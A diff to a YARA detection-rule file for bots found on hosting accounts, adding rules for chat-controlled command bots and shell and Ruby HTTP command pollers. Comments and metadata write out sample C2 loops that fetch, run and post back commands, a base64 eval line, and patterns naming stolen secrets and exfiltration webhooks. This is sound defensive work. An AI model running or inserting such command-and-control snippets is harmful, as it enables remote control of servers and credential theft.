@@ -1171,9 +1171,13 @@ rule bot_fetch_exec_perl : bot
         $x2 = /\bchmod\s{0,4}\(?\s{0,4}0?[0-7]?[1357][0-7]{2}\b/
         $x3 = /`\s{0,2}(perl|sh|bash|python|\.\/|\/tmp\/|chmod)/
         $ht = /HTTP::Tiny|LWP::UserAgent/
+        // train6: my $t = get($u); .. my $code = decode_base64($t); eval $code;
+        $kv = /\$\w{1,30}\s{0,2}=\s{0,2}(LWP::Simple::)?get\s{0,2}\(|->\s{0,2}(decoded_)?content\b/
+        $kx = /\beval\s{0,4}\(?\s{0,4}((decode_base64|uncompress|unpack|pack|reverse)\s{0,2}\(?\s{0,2}(['"][^'"\n]{1,4}['"]\s{0,2},\s{0,2})?)?\$\w{1,30}\s{0,4}\)?\s{0,4}[;}]/
     condition:
         filesize < 2MB and hs_lang_perl and not hs_doc_file and
-        (any of ($e*) or ($h4 and $ht) or (any of ($g*) and any of ($x*)))
+        (any of ($e*) or ($h4 and $ht) or (any of ($g*) and any of ($x*)) or
+         for any i in (1..#kx) : ( $kv in (@kx[i] - 300 .. @kx[i]) ))
 }
 
 rule bot_fetch_exec_python : bot
@@ -1565,7 +1569,7 @@ rule bot_http_c2_poll : bot
         // the order run as a command: a non-literal argument (PHP, Python, Perl)
         $r = /\b(shell_exec|system|passthru|popen|proc_open|exec)\s{0,2}\(\s{0,2}\$\w{1,30}(\[|->|\s{0,2}[),.])|\bsubprocess\.(run|call|check_output|check_call|Popen)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,120}\bshell\s{0,2}=\s{0,2}True|\b(subprocess\.(getoutput|getstatusoutput)|commands\.getoutput|os\.(popen|system))\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$\w{1,30}( 2>&1)?`|\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}|\bsystem\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}[);]/
         // the output posted back
-        $p = /['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]|\bCURLOPT_POSTFIELDS\b|\brequests\.post\s{0,2}\(|\b(Request|urlopen)\s{0,2}\([^\n]{0,200}(\bdata\s{0,2}=|,\s{0,2}(urllib\.(parse\.)?)?urlencode\s{0,2}\()|->\s{0,2}post(_form)?\s{0,2}\(|["']POST \/[^\n]{0,60}HTTP\/1/
+        $p = /['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]|\bCURLOPT_POSTFIELDS\b|\brequests\.post\s{0,2}\(|\b(Request|urlopen)\s{0,2}\([^\n]{0,200}(\bdata\s{0,2}=|,\s{0,2}(urllib\.(parse\.)?)?urlencode\s{0,2}\()|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])|->\s{0,2}post(_form)?\s{0,2}\(|["']POST \/[^\n]{0,60}HTTP\/1/
         // a beacon loop (round 8: or Telegram's long poll, which waits by itself)
         $tg = "/getUpdates" ascii
         $sl = /\b(u?sleep|time\.sleep)\s{0,2}[\( ]/
@@ -1994,6 +1998,9 @@ rule bot_config_credential_exfil : bot
         $c4 = /DB_\(?[A-Z_|]{0,40}PASS/
         // round 7: a Python regex DB_(?:USER|PASSWORD)
         $c5 = /DB_\(\?:[A-Z_|]{0,40}PASS/
+        // train6: every DB_ key taken by a regex, or the other secrets of a .env
+        $c6 = "DB_\\w" ascii
+        $c7 = /\b(MAIL_PASSWORD|AWS_SECRET_ACCESS_KEY|STRIPE_SECRET(_KEY)?|SMTP_PASS(WORD)?)\b/
         $x1 = "api.telegram.org" ascii
         $x2 = /\bmail\s{0,4}\(\s{0,4}['"][^'"\s@]{1,40}@[\w-]{1,40}\.[\w.]{2,20}['"]/
         $x3 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|\S{1,80})\s{1,4}){1,4}[\w.+-]{1,40}@[\w-]{1,40}\.[\w.]{2,20}/
@@ -2003,7 +2010,7 @@ rule bot_config_credential_exfil : bot
         $x7 = /file_get_contents\s{0,4}\(\s{0,4}['"]https?:\/\/[^'"\n]{1,120}['"]\s{0,4}\./
         // round 7: a chat webhook; Python's POST (Request with data, requests.post)
         $x8 = /discord(app)?\.com\/api\/webhooks\//
-        $x9 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=/
+        $x9 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])/
     condition:
         filesize < 500KB and (not hs_doc_file or hs_script_ext) and
         ($g1 or $g2 or (any of ($g3, $g4, $g5) and $gw)) and any of ($c*) and any of ($x*)
@@ -2821,4 +2828,89 @@ rule bot_git_hook_install : bot
         for any of ($p*) : ( for any i in (1..#) : (
             for any j in (1..#hk) : ( @hk[j] > @[i] - 600 and @hk[j] < @[i] + 600 ) or
             for any j in (1..#gl) : ( @gl[j] > @[i] - 600 and @gl[j] < @[i] + 600 ) ) )
+}
+
+/* ---- round 11 (branch fix6-bot, seen = "train6"): the causes behind the
+ * bots train6 missed (docs/script-rules.md, "Round 11: train6"), written
+ * for the technique in every language a hosting account runs. */
+
+/* A bot whose channel is a chat service: it reads the messages sent to it
+ * (Telegram's getUpdates, a Discord channel's messages, Slack's history),
+ * runs the text as a command line in whatever language it is written in,
+ * and answers with the output (sendMessage, a webhook, a channel post). A
+ * notifier only sends; a chat-ops bot that maps a word to a fixed command
+ * list runs literals. */
+rule bot_chat_c2_command_exec : bot
+{
+    meta:
+        description = "Chat-controlled bot (Telegram, Discord, Slack): the messages it reads run as shell commands and the output posted back, in any language"
+        severity = "high"
+        technique = "getUpdates + `$u->{message}{text}` + sendMessage (Perl); curl getUpdates + sh -c \"$cmd\" + curl sendMessage (shell); execSync(u.message.text) (Node); /channels/N/messages + subprocess.getoutput(m['content']) + webhook (Python)"
+        seen = "train6"
+    strings:
+        // the orders read
+        $rx1 = "getUpdates" ascii
+        $rx2 = /discord(app)?\.com\/api\/(v\d{1,2}\/)?channels\//
+        $rx3 = "conversations.history" ascii
+        // the answer
+        $tx1 = "sendMessage" ascii
+        $tx2 = /discord(app)?\.com\/api\/(v\d{1,2}\/)?webhooks\/|\/channels\/[^\n]{0,80}\/messages/
+        $tx3 = "chat.postMessage" ascii
+        // a command line that is not a literal, per language
+        $x1 = /`\$[\w{]/
+        $x2 = /\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w/
+        $x3 = /\b(system|shell_exec|passthru|popen|proc_open)\s{0,2}\(\s{0,2}\$\w/
+        $x4 = /\b(sh|bash|dash|zsh)\s{1,4}-c\s{1,4}["']?\$\{?\w/
+        $x5 = /\beval\s{1,4}["']?\$\{?[a-zA-Z_]/
+        $x6 = /\b(execSync|exec|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}(\[[^\]\n]{0,20}\]){0,2}[\w$.]{0,20}\s{0,2}[,)]/
+        // (Python: a shell line; an argument list picked from a table of commands is not)
+        $x7 = /\b(subprocess\.(getoutput|getstatusoutput)|os\.popen|os\.system|commands\.getoutput|create_subprocess_shell)\s{0,2}\(\s{0,2}[a-zA-Z_]|\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,160}\bshell\s{0,2}=\s{0,2}(True|1)\b/
+        $x8 = /`#\{|%x[({\[]\s{0,2}#\{|\bIO\.popen\s{0,2}\(\s{0,2}[a-z_@$]|\bOpen3\.\w{1,10}\s{0,2}\(\s{0,2}[a-z_@$]/
+        $cp = "child_process" ascii
+    condition:
+        filesize < 1MB and (not hs_doc_file or hs_node_code) and any of ($rx*) and any of ($tx*) and
+        (any of ($x1, $x2, $x3, $x4, $x5, $x7, $x8) or ($x6 and $cp))
+}
+
+/* An HTTP poller in shell: the order fetched into a variable ($(curl ..),
+ * $(wget -qO- ..)), run by sh -c / eval, the output posted back with curl
+ * or wget, in an endless sleeping loop. A deploy poller compares what it
+ * fetched with a word and runs its own script. */
+rule bot_shell_http_c2_poll : bot
+{
+    meta:
+        description = "Shell HTTP command poller: a fetched command run with sh -c/eval and the output posted back, in a sleeping loop"
+        severity = "high"
+        technique = "while true; do c=$(curl -s $U/task); r=$(sh -c \"$c\" 2>&1); curl -s -d \"o=$r\" $U/out; sleep 60; done"
+        seen = "train6"
+    strings:
+        $lp = /\b(while\s{1,4}(true|:|\[\s{1,2}1\s{1,2}\])|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b/
+        $g = /\$\(\s{0,2}(curl|wget)\s[^\n)]{0,300}\)/
+        $r = /\b(sh|bash|dash|zsh)\s{1,4}-c\s{1,4}["']?\$\{?\w{1,30}|\beval\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}/
+        $p = /\b(curl|wget)\s[^\n]{0,200}(\s-d\s|\s--data(-urlencode|-binary|-raw)?[\s=]|\s-F\s|\s--form\s|--post-(data|file))/
+        $sl = /\bsleep\s{1,4}[0-9$]/
+    condition:
+        filesize < 256KB and hs_lang_shell and not hs_doc_file and $lp and $sl and
+        for any i in (1..#r) : ( $g in (@r[i] - 800 .. @r[i]) and $p in (@r[i] .. @r[i] + 800) )
+}
+
+/* The same poller in Ruby: Net::HTTP/open-uri fetch, the answer run by
+ * backticks, %x, system, IO.popen or Open3 (decoded or not), the output
+ * posted back, in a loop that sleeps. */
+rule bot_ruby_http_c2_poll : bot
+{
+    meta:
+        description = "Ruby HTTP command poller: a fetched command run and the output posted back, in a sleeping loop"
+        severity = "high"
+        technique = "loop do; b = Net::HTTP.get(URI(U)); o = `#{Base64.decode64(b)} 2>&1`; Net::HTTP.post_form(URI(U), 'o' => o); sleep 75; end"
+        seen = "train6"
+    strings:
+        $g = /\bNet::HTTP\s{0,2}\.\s{0,2}(get|get_response|start)\b|\bURI\s{0,2}\.\s{0,2}open\s{0,2}\(|\b(HTTParty|Faraday|RestClient)\s{0,2}\.\s{0,2}get\b/
+        $r = /`#\{|%x[({\[]\s{0,2}#\{|\b(system|exec|spawn)\s{0,2}\(?\s{0,2}[a-z_@$][\w.]{0,30}\s{0,2}(\)|\n)|\bIO\s{0,2}\.\s{0,2}popen\s{0,2}\(\s{0,2}[a-z_@$]|\bOpen3\s{0,2}\.\s{0,2}\w{1,10}\s{0,2}\(\s{0,2}[a-z_@$]/
+        $p = /\bNet::HTTP\s{0,2}\.\s{0,2}post(_form)?\s{0,2}\(|\bNet::HTTP::Post\s{0,2}\.\s{0,2}new\b|\b(HTTParty|Faraday|RestClient)\s{0,2}\.\s{0,2}post\b/
+        $lp = /\bloop\s{1,2}do\b|\bwhile\s{1,4}true\b|\buntil\s{1,4}false\b/
+        $sl = /\bsleep\s{0,2}\(?\s{0,2}[0-9a-z_@]/
+    condition:
+        filesize < 512KB and not hs_doc_file and $lp and $sl and
+        for any i in (1..#r) : ( $g in (@r[i] - 600 .. @r[i]) and $p in (@r[i] - 800 .. @r[i] + 800) )
 }
